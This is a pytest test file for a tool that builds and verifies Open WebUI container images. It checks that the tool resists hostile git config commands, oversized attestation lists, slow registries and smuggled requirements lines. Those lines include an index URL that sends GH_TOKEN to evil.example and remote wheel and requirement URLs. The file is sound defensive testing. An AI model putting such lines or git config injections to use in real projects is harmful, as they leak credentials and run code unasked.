"""Attacks by bundles, releases and neighbours of the same machine that worked once."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import time
from contextlib import nullcontext
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from types import SimpleNamespace

import pytest

from helpers import Server, Talk
from hostile import ZERO, drip, within
from registries import image_of
from webui_fork.cli import load, main
from webui_fork.config import image_toml, tags
from webui_fork.core import files, git, wire
from webui_fork.core.errors import ImageError, LockError, RegistryError
from webui_fork.core.settings import CHECKOUT, Settings
from webui_fork.image import python
from webui_fork.oci import layout, model, session, transfer
from webui_fork.oci.registry import Registry
from webui_fork.sources import uv
from webui_fork.trust.verify import Check, Verdict

# -- bundles


@pytest.fixture
def stranger(tmp_path: Path) -> Path:
    """A repository that a bundle brought: git runs a program of its own to get what is missing."""
    root, ran = tmp_path / "checkout", tmp_path / "ran"
    subprocess.run(["git", "init", "--quiet", root], check=True)
    for key, value in {
        "core.repositoryFormatVersion": "1",
        "extensions.partialClone": "x",
        "remote.x.url": ".",
        "remote.x.promisor": "true",
        "remote.x.uploadpack": f"touch {ran}; false",
        "diff.x.textconv": f"touch {ran}; cat",
    }.items():
        subprocess.run(["git", "-C", root, "config", key, value], check=True)
    (root / ".gitattributes").write_text("* diff=x\n")
    (root / "patches").mkdir()
    (root / "patches/series").write_text("a.patch\n")
    identity = ["-c", "user.name=x", "-c", "user.email=x@example.org"]
    subprocess.run(["git", "-C", root, "add", "--all"], check=True)
    subprocess.run(["git", "-C", root, *identity, "commit", "--quiet", "-m", "x"], check=True)
    return root


def test_a_repository_beside_a_bundle_runs_nothing(stranger: Path, tmp_path: Path) -> None:
    own = Settings(stranger, tmp_path / "cache", tmp_path / "config", False, environ=dict(os.environ))
    head = git.in_checkout(own, "rev-parse", "HEAD").stdout.strip()
    assert git.committed(own, head, "patches/series") == b"a.patch\n"
    assert git.committed(own, "1" * 40, "patches/series") is None
    assert not (tmp_path / "ran").exists()


def test_a_line_has_its_own_series(stranger: Path, tmp_path: Path) -> None:
    own = Settings(stranger / "patches", tmp_path / "cache", tmp_path / "config", False, environ=dict(os.environ))
    head = git.in_checkout(own, "rev-parse", "HEAD").stdout.strip()
    assert git.committed(own, head, "series") == b"a.patch\n"


def test_more_attestations_than_can_be_read(private_settings: Settings, tmp_path: Path) -> None:
    root, cache = tmp_path / "image", private_settings.cache
    image = image_of(cache, b"x")
    layout.write_layout(root, "v1", image, cache)
    described = image.config.descriptor()

    def attest(count: int, size: int) -> None:
        row = {**described, "size": size}
        rows = {"schemaVersion": 2, "mediaType": model.MANIFEST, "config": described, "layers": [row] * count}
        blob = model.Blob(model.MANIFEST, json.dumps(rows).encode())
        (layout.blob_path(root, blob.digest)).write_bytes(blob.data)
        index = json.loads((root / "index.json").read_text())
        manifest = {**blob.descriptor(), "annotations": {"kind": f"{layout.COSIGN}atts"}}
        (root / "index.json").write_text(json.dumps({**index, "manifests": [index["manifests"][0], manifest]}))

    attest(60, len(image.config.data))
    assert len(layout.read_layout(root).attached[0].blobs) == 61
    attest(64, len(image.config.data))
    with pytest.raises(ImageError, match="too many signatures"):
        layout.read_layout(root)
    attest(9, 8 << 20)
    with pytest.raises(ImageError, match="too many signatures"):
        layout.read_layout(root)
    attest(1, len(image.config.data) - 1)  # what it says is what is read
    with pytest.raises(ImageError, match="File too large"):
        layout.read_layout(root)


def test_a_registry_attaches_more_than_can_be_read() -> None:
    rows = [{"mediaType": "x", "digest": ZERO, "size": 8 << 20}] * 9
    manifest = model.Blob(model.MANIFEST, json.dumps({"config": rows[0], "layers": rows}).encode())
    reads: list[object] = []
    registry = SimpleNamespace(manifest=lambda _tag: manifest, small_blob=reads.append)
    with pytest.raises(ImageError, match="too many signatures"):
        transfer.attached(registry, ZERO)  # type: ignore[arg-type]
    assert reads == []


def test_an_older_image_does_not_pass_for_the_newest(
    private_settings: Settings,
    talk: Talk,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    layout.write_layout(tmp_path / "image", "latest", image_of(private_settings.cache, b"x"), private_settings.cache)
    monkeypatch.setattr("webui_fork.cli.signer.verifier", lambda *_: None)
    rows = (Check("tag", Verdict.UNKNOWN, "latest may name any"),)
    monkeypatch.setattr("webui_fork.trust.verify.run", lambda *_: rows)
    monkeypatch.setattr("webui_fork.trust.verify.signed_as", lambda _: tags.parse("v0.1.0-p1-slim"))
    monkeypatch.setattr("webui_fork.oci.engine.connect", lambda *_: nullcontext(SimpleNamespace(client=None)))
    names: list[str] = []
    monkeypatch.setattr("webui_fork.oci.engine.load", lambda *arguments: names.append(arguments[-1]))
    load.run(private_settings, talk, main.parser("load").parse_args(["load", f"{tmp_path}/image"]))
    assert names == ["open-webui:v0.1.0-p1-slim"]
    assert "latest may name any" in "\n".join(talk.lines)
    assert "open-webui:v0.1.0-p1-slim" in capsys.readouterr().out


# -- releases


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://evil.example/${GH_TOKEN}/simple",
        "-r https://evil.example/more.txt",
        "-e ${HOME}/folder",
        "x @ https://evil.example/x-1-py3-none-any.whl",
        "x==${GH_TOKEN}",
        "./folder",
        "x==1 --hash=sha256:00",
        "x==1 \\",
    ],
)
def test_a_release_asks_for_distributions_and_nothing_else(
    private_settings: Settings, talk: Talk, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    monkeypatch.setattr(uv, "resolve", lambda *_, **__: pytest.fail("uv was asked"))
    spec = image_toml.read(CHECKOUT / "images/open-webui")
    with pytest.raises(LockError, match=r"requirements[a-z-]*\.txt:3 is more than a distribution"):
        python.lock_requirements(private_settings, spec, f"# one\nfastapi[all]>=1 # two\n{line}\n".encode(), "", talk)


def test_uv_gets_no_token(private_settings: Settings) -> None:
    environ = {"PATH": "/bin", "GH_TOKEN": "t", "COSIGN_PASSWORD": "p", "UV_INDEX_URL": "https://own.example"}
    own = Settings(private_settings.root, private_settings.cache, private_settings.config, False, environ=environ)
    assert {"GH_TOKEN", "COSIGN_PASSWORD"}.isdisjoint(uv.environment(own, {}))
    assert uv.environment(own, {})["UV_INDEX_URL"] == "https://own.example"


# -- registries


def test_an_error_that_drips(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    server.answer = lambda handler: drip(handler, 404)
    monkeypatch.setattr("webui_fork.oci.registry.WHOLE", 0.3)
    monkeypatch.setattr(session, "TRIES", 2)
    with Registry(server.url, "x", pause=0) as registry, pytest.raises(RegistryError):
        within(5, lambda: registry.small_blob(model.Descriptor(model.CONFIG, ZERO, 1000)))


def test_a_blob_that_breaks_off_after_each_byte(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    def one_byte(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(206 if "Range" in handler.headers else 200)
        handler.send_header("Transfer-Encoding", "chunked")
        handler.end_headers()
        handler.wfile.write(b"1\r\nx\r\n")
        handler.close_connection = True
        time.sleep(0.02)

    server.answer = one_byte
    monkeypatch.setattr(wire, "_WAIT", 0.3)
    with (
        Registry(server.url, "x", pause=0) as registry,
        pytest.raises(RegistryError, match="stop sending"),
    ):
        within(5, lambda: registry.small_blob(model.Descriptor(model.CONFIG, ZERO, 1000)))


# -- neighbours


def test_two_processes_of_one_number_take_different_names(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source, target = tmp_path / "source", tmp_path / "target"
    source.write_bytes(b"content")
    monkeypatch.setattr(os, "getpid", lambda: 7)
    names: list[str] = []
    real = os.link

    def link(one: Path, other: Path) -> None:
        names.append(other.name)
        real(one, other)

    monkeypatch.setattr(os, "link", link)
    for _ in range(2):
        files.link_or_copy(source, target)
    assert len(set(names)) == 2
    assert source.read_bytes() == target.read_bytes() == b"content"


def test_nobody_else_can_hold_a_lock(tmp_path: Path) -> None:
    with files.exclusive(tmp_path / "lock", "this"):
        assert stat.S_IMODE((tmp_path / "lock").stat().st_mode) == 0o600
